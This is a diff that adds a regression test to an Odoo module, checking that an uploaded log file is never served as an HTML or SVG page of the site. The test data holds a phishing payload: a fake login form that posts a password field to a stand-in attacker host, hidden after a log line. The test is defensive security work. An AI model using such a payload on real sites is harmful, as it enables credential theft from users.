@@ -6,6 +6,7 @@ their own client only, as downloads (raw HTTP, the client's own path)."""
 
 import base64
 import json
+from urllib.parse import quote
 
 from odoo.exceptions import AccessError
 from odoo.tests import new_test_user, tagged
@@ -382,3 +383,29 @@ class TestApiLinksRedacted(SyncApiCase):
         self.assertTrue(all(token not in value for value in stored), stored)
         self.assertIn("[link removed]", ticket.description)
         self.assertDecidesNothing(token)
+
+    def test_a_text_file_is_never_served_as_a_page_of_this_domain(self):
+        # Attacker run 4, F2: a log with a page after its first line, asked
+        # for as text/html through Odoo's /web/content, was a page of central
+        # (a fake login form) for whoever opened the link.
+        page = b"2026-12-04 ERROR\n<html><form action='https://evil.example'><input name=pw></form>"
+        body = self.assertJsonResponse(
+            self.post_reply(
+                self.ticket,
+                idempotency_key="page-in-a-log-0001",
+                attachments=[attached("odoo.log", page, "text/plain")],
+            ),
+            201,
+        )
+        [stored] = self.env["mail.message"].browse(body["id"]).attachment_ids
+        self.authenticate(self.engineer.login, self.engineer.login)
+        for mimetype in ("text/html", "image/svg+xml", "TEXT/HTML; charset=utf-8"):
+            with self.subTest(mimetype=mimetype):
+                response = self.url_open(
+                    "/web/content/%d?mimetype=%s" % (stored.id, quote(mimetype))
+                )
+                self.assertEqual(response.status_code, 200)
+                self.assertEqual(response.headers["Content-Type"].split(";")[0], "text/plain")
+        # A harmless type asked for is still honoured (Odoo's own use).
+        response = self.url_open("/web/content/%d?mimetype=application/octet-stream" % stored.id)
+        self.assertEqual(response.headers["Content-Type"], "application/octet-stream")
